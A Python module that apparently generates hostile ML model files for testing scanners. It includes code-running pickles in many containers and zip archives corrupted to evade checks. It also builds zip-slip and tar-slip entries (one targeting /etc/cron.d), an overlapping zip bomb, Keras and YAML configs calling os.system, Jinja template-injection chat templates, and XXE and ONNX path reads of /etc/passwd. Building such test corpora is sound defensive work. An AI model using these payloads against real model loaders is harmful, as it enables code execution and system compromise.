"""Harmful files, built by code: callables x protocols x shapes x containers, tricks of the unpickler, lying archives.

Nothing here is ever loaded. A payload's arguments are inert words all the same.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from itertools import cycle

from hostile_gadgets import GADGETS
from hostile_opcodes import SHAPES, torch_zip
from hostile_tricks import CALL, TRICKS
from hostile_unfamiliar import unfamiliar
from hostile_uses import uses


def npy(pickle: bytes, major: int = 1) -> bytes:
    """An object array around a pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    width = 2 if major == 1 else 4
    header += b" " * (-(8 + width + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY" + bytes([major, 0]) + len(header).to_bytes(width, "little") + header + pickle


def zipped(**members: bytes) -> bytes:
    """A deflated zip; `__` in a name stands for a dot."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for key, content in members.items():
            archive.writestr(key.replace("__", "."), content)
    return made.getvalue()


def tarred(*members: tuple[str, bytes], mode: str = "w") -> bytes:
    """A tar."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode=mode) as archive:  # type: ignore[call-overload]
        for path, content in members:
            info = tarfile.TarInfo(path)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return made.getvalue()


def legacy_torch(pickle: bytes) -> bytes:
    """torch.save before 1.6: three small pickles, the object, the keys."""
    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
    return magic + b"\x80\x02M\xe9\x03." + b"\x80\x02}q\x00X\x06\x00\x00\x00systemK\x01s." + pickle + b"\x80\x02]q\x00."


CONTAINERS: Mapping[str, Callable[[bytes], bytes]] = {
    "pkl": lambda p: p,
    "pt": torch_zip,
    "pt-deflated": lambda p: torch_zip(p, method=zipfile.ZIP_DEFLATED),
    "pt-legacy": legacy_torch,
    "npy": npy,
    "npy3": lambda p: npy(p, 3),
    "npz": lambda p: zipped(a__npy=npy(p)),
    "joblib-zlib": zlib.compress,
    "joblib-gzip": gzip.compress,
    "joblib-bz2": bz2.compress,
    "joblib-xz": lzma.compress,
    "joblib-lzma": lambda p: lzma.compress(p, format=lzma.FORMAT_ALONE),
    "tar": lambda p: tarred(("model/a.pkl", p)),
    "tar.gz": lambda p: tarred(("model/a.pt", torch_zip(p)), mode="w:gz"),
    "tar.xz": lambda p: tarred(("model/a.npy", npy(p)), mode="w:xz"),
    "zip-zip": lambda p: zipped(inner__zip=zipped(a__bin=p)),
    "second-pickle": lambda p: b"\x80\x02]q\x00." + p,
    "sixth-pickle": lambda p: legacy_torch(b"\x80\x02}q\x00.") + p,
}


def gadgets() -> Iterator[tuple[str, bytes]]:
    """Every callable in each of two shapes, one bare and one in a container, all in turn."""
    shapes, containers = cycle(SHAPES), cycle(CONTAINERS.items())
    for module, attribute, arguments in GADGETS:
        for _ in range(2):
            shape, (kind, wrap) = next(shapes), next(containers)
            try:
                yield f"{module}.{attribute}-{shape.__name__}-{kind}", wrap(shape(module, attribute, arguments))
            except (UnicodeEncodeError, ValueError):
                continue
        next(shapes)


def tricks() -> Iterator[tuple[str, bytes]]:
    """What an unpickler does and a scanner of names doesn't."""
    yield from TRICKS.items()


_EVIL = b"\x80\x02" + CALL + b"."


def _flip(content: bytes, at: int, mask: int = 1) -> bytes:
    return content[:at] + bytes([content[at] ^ mask]) + content[at + 1 :]


def _after(content: bytes, mark: bytes, offset: int) -> int:
    return content.index(mark) + offset


def _lying_zips() -> Iterator[tuple[str, bytes]]:
    whole = torch_zip(_EVIL)
    central = whole.index(b"PK\1\2")
    yield "zip-crc-local", _flip(whole, 14)
    yield "zip-crc-central", _flip(whole, central + 16)
    yield "zip-crc-both", _flip(_flip(whole, 14), central + 16)
    yield "zip-encrypted-central", _flip(whole, central + 8)
    yield "zip-encrypted-local", _flip(whole, 6)
    yield "zip-encrypted-both", _flip(_flip(whole, 6), central + 8)
    yield "zip-name-local", whole.replace(b"model/data.pkl", b"model/data.txt", 1)
    yield "zip-name-central", whole[:central] + whole[central:].replace(b"model/data.pkl", b"model/data.txt", 1)
    yield "zip-size-local", _flip(whole, 22, 7)
    yield "zip-flag-bits", _flip(whole, central + 8, 0x20)
    yield "zip-disk-number", _flip(whole, whole.rindex(b"PK\5\6") + 4)
    yield "zip-count-short", _flip(_flip(whole, whole.rindex(b"PK\5\6") + 8, 3), whole.rindex(b"PK\5\6") + 10, 3)
    yield "zip-prefix", b"#!/bin/sh\nexit 0\n" + whole
    yield "zip-prefix-image", b"\x89PNG\r\n\x1a\n" + bytes(60) + whole
    yield "zip-suffix", whole + b"\n" * 40
    yield "zip-suffix-long", whole + bytes(70_000)
    yield "zip-no-directory", whole[:central]
    yield "zip-cut", whole[: central + 20]
    yield "zip-twice", zipped(readme__txt=b"words") + whole
    yield "zip-comment", zipped(readme__txt=b"words")[:-2] + struct.pack("<H", 5) + b"hello" + whole
    yield "zip-version", _flip(whole, central + 6, 0x40)
    yield "zip-method-central", _flip(whole, central + 10, 8)
    yield "zip-no-suffix-name", zipped(weights=_EVIL)
    yield "zip-pickle-called-txt", zipped(readme__txt=_EVIL)
    yield "zip-pickle-called-json", zipped(config__json=_EVIL)
    yield "zip-bzip2", _stored(zipfile.ZIP_BZIP2)
    yield "zip-lzma", _stored(zipfile.ZIP_LZMA)
    yield "pickle-then-zip", _EVIL + zipped(readme__txt=b"words")


def _stored(method: int) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        archive.writestr("a.pkl", _EVIL)
    return made.getvalue()


def _names_and_bombs() -> Iterator[tuple[str, bytes]]:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("../../evil.py", b"import os\n")
    yield "zip-slip", made.getvalue()
    yield "tar-slip", tarred(("../../evil.py", b"import os\n"))
    yield "tar-absolute", tarred(("/etc/cron.d/evil", b"* * * * *\n"))
    link = io.BytesIO()
    with tarfile.open(fileobj=link, mode="w") as tar:
        info = tarfile.TarInfo("model")
        info.type, info.linkname = tarfile.SYMTYPE, "/etc"
        tar.addfile(info)
    yield "tar-link", link.getvalue()
    bare = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = bare.compress(bytes(1 << 20)) + bare.flush()
    yield "zip-overlap", _overlapping(kernel, 1 << 20, 400)


def _overlapping(body: bytes, size: int, count: int) -> bytes:
    """Many lines of the directory that all point to one member."""
    crc = zlib.crc32(bytes(size))
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 33, crc, len(body), size, 1, 0) + b"0" + body
    lines = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 33, crc, len(body), size, 4, 0, 0, 0, 0, 0, 0)
        + b"%04d" % i
        for i in range(count)
    )
    return local + lines + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(lines), len(local), 0)


def containers() -> Iterator[tuple[str, bytes]]:
    """A harmful pickle in every container, in containers that lie, and containers that are harmful themselves."""
    for kind, wrap in CONTAINERS.items():
        yield f"in-{kind}", wrap(_EVIL)
    yield from _lying_zips()
    yield from _names_and_bombs()
    yield "tar-second", tarred(("a.txt", b"words\n")) + tarred(("b.pkl", _EVIL))
    yield "tar-pax", tarred(("x" * 150 + ".pkl", _EVIL))
    yield "gz-gz-gz", gzip.compress(gzip.compress(gzip.compress(_EVIL)))
    yield "gz-two-streams", gzip.compress(_EVIL[:9]) + gzip.compress(_EVIL[9:])
    yield "gz-cut", gzip.compress(_EVIL + bytes(range(256)) * 900)[:-9]
    yield "npy-then-pickle", npy(b"\x80\x02N.")[:128] + _EVIL
    yield "npz-one-of-many", zipped(**{f"a{i}__npy": npy(b"\x80\x02](K\x01e.") for i in range(20)}, b__npy=npy(_EVIL))
    yield (
        "legacy-tar",
        tarred(
            ("sys_info", b"\x80\x02}q\x00."),
            ("pickle", _EVIL),
            ("tensors", b"\x80\x02K\x00."),
            ("storages", b"\x80\x02K\x00."),
        ),
    )
    yield (
        "legacy-tar-storages",
        tarred(
            ("sys_info", b"\x80\x02}q\x00."),
            ("pickle", b"\x80\x02N."),
            ("tensors", b"\x80\x02K\x00."),
            ("storages", b"\x80\x02K\x01." + _EVIL),
        ),
    )


def formats() -> Iterator[tuple[str, bytes]]:
    """Harm in files that are no pickle."""
    lambdas = {
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": {
                "class_name": "__lambda__",
                "config": {
                    "code": base64.b64encode(
                        marshal.dumps(compile("__import__('os').system('id')", "a", "exec"))
                    ).decode(),
                    "defaults": None,
                    "closure": None,
                },
            },
        },
    }
    gadget = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
    for key, layer in {
        "lambda": lambdas,
        "module": {"module": "os", "class_name": "system", "config": {}},
        "function": {"class_name": "Activation", "config": {"activation": gadget}},
    }.items():
        config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}, "registered_name": None}
        yield (
            f"keras-{key}",
            zipped(config__json=json.dumps(config).encode(), metadata__json=b'{"keras_version": "3.0.0"}'),
        )
    for key, template in {
        "gguf-template": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "gguf-template-cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    }.items():
        word, body = b"tokenizer.chat_template", template.encode()
        yield (
            key,
            b"GGUF"
            + struct.pack("<IQQ", 3, 0, 1)
            + struct.pack("<Q", len(word))
            + word
            + struct.pack("<IQ", 8, len(body))
            + body,
        )
    for key, header, data in (
        ("safetensors-overlap", {"a": [0, 8], "b": [4, 12]}, bytes(12)),
        ("safetensors-pickle-behind", {"a": [0, 8]}, bytes(8) + _EVIL),
    ):
        text = json.dumps(
            {n: {"dtype": "F32", "shape": [2], "data_offsets": span} for n, span in header.items()}
        ).encode()
        yield key, struct.pack("<Q", len(text)) + text + data
    yield (
        "hf-auto-map",
        json.dumps({"architectures": ["A"], "auto_map": {"AutoModel": "evil--repo.modeling_a"}}).encode(),
    )
    yield (
        "tokenizer-template",
        json.dumps(
            {"chat_template": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id') }}"}
        ).encode(),
    )
    packed, wrapped = base64.b64encode(_EVIL).decode(), base64.encodebytes(_EVIL).decode()
    yield "in-text-base64", f"# weights\nmodel = {packed}\n".encode()
    yield "in-text-hex", f"weights: {_EVIL.hex()}\n".encode()
    yield "in-text-zlib", base64.b64encode(zlib.compress(_EVIL))
    yield "hf-base64", json.dumps({"model_type": "x", "state": [wrapped]}).encode()
    yield "pmml-base64", f'<?xml version="1.0"?><PMML version="4.4"><Extension value="{packed}"/></PMML>'.encode()
    yield "yaml-base64", f"state: '{packed}'\n".encode()
    yield "hydra-target", b"model:\n  _target_: os.system\n  command: id\n"
    yield "yaml-tag", b"!!python/object/apply:os.system ['id']\n"
    yield (
        "pmml-entity",
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4">&x;</PMML>',
    )
    onnx_location = b"\n\x08location\x12\x10../../etc/passwd"
    tensor = b"B\x01a" + b"j" + bytes([len(onnx_location)]) + onnx_location + b"p\x01"
    graph = b"*" + bytes([len(tensor)]) + tensor
    yield "onnx-external", b"\x08\x08\x12\x07pytorch:" + bytes([len(graph)]) + graph
    yield (
        "skops-unknown",
        zipped(
            schema__json=json.dumps(
                {
                    "__class__": "function",
                    "__module__": "os",
                    "__loader__": "FunctionNode",
                    "content": {"module_path": "os", "function": "system"},
                    "protocol": 2,
                    "_skops_version": "0.11",
                }
            ).encode()
        ),
    )


_SUFFIXES = (
    ("csv", ".csv"),
    ("notebook", ".ipynb"),
    ("handler", ".py"),
    ("avro", ".avro"),
    ("exe", ".csv"),
    ("hdf5", ".h5"),
    ("checksum", ".joblib"),
    ("keras", ".keras"),
    ("gguf", ".gguf"),
    ("safetensors", ".safetensors"),
    ("hf-", ".json"),
    ("tokenizer", ".json"),
    ("hydra", ".yaml"),
    ("yaml", ".yaml"),
    ("pmml", ".pmml"),
    ("in-text", ".txt"),
    ("onnx", ".onnx"),
    ("skops", ".skops"),
    ("tar", ".tar"),
    ("gz", ".pkl.gz"),
    ("npy", ".npy"),
    ("npz", ".npz"),
    ("legacy-tar", ".pt"),
    ("zip", ".pt"),
)
_KINDS = (
    ("-pt", ".pt"),
    ("-pt-deflated", ".pt"),
    ("-pt-legacy", ".pt"),
    ("-npy", ".npy"),
    ("-npy3", ".npy"),
    ("-npz", ".npz"),
    ("-tar", ".tar"),
    ("-tar.gz", ".tar.gz"),
    ("-tar.xz", ".tar.xz"),
    ("-zip-zip", ".zip"),
    ("-sixth-pickle", ".pt"),
    ("-joblib-zlib", ".joblib"),
    ("-joblib-gzip", ".joblib"),
    ("-joblib-bz2", ".joblib"),
    ("-joblib-xz", ".joblib"),
    ("-joblib-lzma", ".joblib"),
)


def suffix(name: str) -> str:
    """The suffix that such a file bears, for scanners that go by it."""
    by_kind = next((end for kind, end in _KINDS if name.endswith(kind)), "")
    return by_kind or next((end for start, end in _SUFFIXES if name.startswith(start)), ".pkl")


SUITES: Mapping[str, Callable[[], Iterator[tuple[str, bytes]]]] = {
    "gadgets": gadgets,
    "tricks": tricks,
    "uses": uses,
    "containers": containers,
    "formats": formats,
    "unfamiliar": unfamiliar,
}
